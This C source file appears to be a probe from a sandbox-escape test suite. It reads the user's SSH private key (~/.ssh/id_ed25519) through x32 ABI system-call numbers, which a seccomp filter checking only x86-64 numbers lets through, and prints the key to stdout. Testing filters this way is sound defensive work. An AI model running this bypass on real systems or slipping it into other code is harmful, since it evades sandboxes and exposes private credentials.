/*
 * family: injection
 * tries: read the user's SSH key through the x32 system-call ABI (numbers with bit 30 set: open, read, write), which a filter that only checks x86-64 numbers lets through
 * source: https://nvd.nist.gov/vuln/detail/CVE-2009-0835
 * exfil: yes
 *
 * Needs a kernel built with CONFIG_X86_X32_ABI (else every call fails
 * with ENOSYS). On other architectures it prints why and exits 1.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int
main(int argc, char **argv)
{
#if defined(__x86_64__)
	const long x32 = 0x40000000; /* __X32_SYSCALL_BIT */
	static char path[4096], buf[65536];
	long fd, n;

	if (argc < 9) {
		fprintf(stderr, "usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES\n");
		return 2;
	}
	snprintf(path, sizeof(path), "%s/.ssh/id_ed25519", argv[2]);
	fflush(stdout);
	/* x32 shares x86-64's numbers for these: read 0, write 1, open 2. */
	if ((fd = syscall(x32 | SYS_open, path, O_RDONLY)) < 0) {
		printf("x32 open: %s\n", strerror(errno));
		return 1;
	}
	while ((n = syscall(x32 | SYS_read, fd, buf, sizeof(buf))) > 0)
		syscall(x32 | SYS_write, 1, buf, n);
	syscall(x32 | SYS_close, fd);
	return 0;
#else
	printf("not an x86-64 build: no x32 ABI to try\n");
	return 1;
#endif
}
